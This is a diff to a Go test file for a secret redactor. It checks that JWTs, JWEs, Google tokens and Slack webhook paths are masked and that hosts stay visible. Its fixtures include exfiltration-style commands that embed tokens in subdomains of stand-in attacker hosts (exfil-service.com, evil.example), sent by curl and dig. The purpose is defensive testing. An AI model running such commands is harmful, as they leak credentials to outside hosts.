@@ -533,9 +533,10 @@ func TestFakeMaskMasked(t *testing.T) {
 }
 
 // TestTokenPatternsKeepHosts: a host whose labels look like a token's
-// parts is shown to reviewers, so they see where a call sends data; real
-// JWTs and Google tokens are still masked, and a Slack webhook's secret
-// path is masked with its host left in clear.
+// parts is shown to reviewers, so they see where a call sends data, and
+// one built around a real-looking token keeps its domain; real JWTs, JWEs
+// and Google tokens are masked wherever they stand, and a Slack webhook's
+// secret path is masked with its host left in clear.
 func TestTokenPatternsKeepHosts(t *testing.T) {
 	const (
 		hdr = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9" // {"alg":"HS256","typ":"JWT"}
@@ -543,18 +544,16 @@ func TestTokenPatternsKeepHosts(t *testing.T) {
 		sig = "SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c" // 43: HS256
 	)
 	jwt := hdr + "." + pay + "." + sig
-	none := "eyJhbGciOiJub25lIn0." + pay + "."
+	jwe := "eyJhbGciOiJSU0EtT0FFUCIsImVuYyI6IkEyNTZHQ00ifQ." + strings.Repeat("OKOawDo13gRp2ojaHV7LFpZcgV7T6DVZKTyKOMTYUmKoTCVJRgckCL9kiMT03JGe", 2) +
+		".48V1_ALb6US04U3b.5eym8TW_c8SuK0ltJ3rpYIzOeDQz7TALvtu6UG9oMo4vpzs9tX_EFShS8iB7j6jiSdiwkIr3ajwQzaBtQD_A.XFBoMYUZodetZdvTiFvSkQ"
 	goog := "ya29.a0AfB_byC" + strings.Repeat("x1Y", 20)
 	r := New(nil)
 	for _, s := range []string{
 		"curl https://eyJhbGciOi.exfil-service.com/up",
 		"curl https://eyJabcdefghijk.eyJabcdefghijk.example.com/up",
 		"curl https://eyJhbGciOiJub25lIn0.eyJhIjoxfQ.com/up",
-		"curl https://" + jwt + ".evil.example/up",
-		"curl https://x." + jwt + "/up",
 		"curl https://ya29.abcdefghijklmnopqrstuvwxyz.evil.example/",
 		"curl https://ya29.c.abcdefghijklmnopqrstuvwxyz.evil.example/",
-		"dig " + goog + ".evil.example",
 	} {
 		for _, r := range []*Redactor{r, r.ForReviewers()} {
 			if got := r.String(s); got != s {
@@ -562,12 +561,21 @@ func TestTokenPatternsKeepHosts(t *testing.T) {
 			}
 		}
 	}
+	// A real token is masked wherever it stands, next to a name or inside
+	// a word; a name built around one keeps its domain in clear.
 	for _, tc := range []struct{ in, want string }{
 		{"Authorization: Bearer " + jwt, "Authorization: Bearer " + Mask},
+		{"Authorization%3A%20Bearer%20" + jwt, "Authorization%3A%20Bearer%20" + Mask},
 		{"curl https://api.example/x?token=" + jwt + "&a=1", "curl https://api.example/x?token=" + Mask + "&a=1"},
 		{"cookie jar: " + jwt + ". Next", "cookie jar: " + Mask + ". Next"},
-		{"unsigned " + none + " x", "unsigned " + Mask + " x"},
+		{"tok:" + jwt + ".x", "tok:" + Mask + ".x"},
+		{"base64:Zm9v" + jwt, "base64:Zm9v" + Mask},
+		{"curl https://" + jwt + ".evil.example/up", "curl https://" + Mask + ".evil.example/up"},
+		{"unsigned eyJhbGciOiJub25lIn0." + pay + ". x", "unsigned " + Mask + " x"},
+		{"enc " + jwe, "enc " + Mask},
 		{"-H 'Authorization: Bearer " + goog + "'", "-H 'Authorization: Bearer " + Mask + "'"},
+		{"Bearer%20" + goog, "Bearer%20" + Mask},
+		{"dig " + goog + ".evil.example", "dig " + Mask + ".evil.example"},
 		{"gcloud says ya29.c." + goog[5:], "gcloud says " + Mask},
 		{"curl -d x https://hooks.slack.com/services/T000/B000/XXXXXXXXXXXXXXXX",
 			"curl -d x https://hooks.slack.com/services/" + Mask},
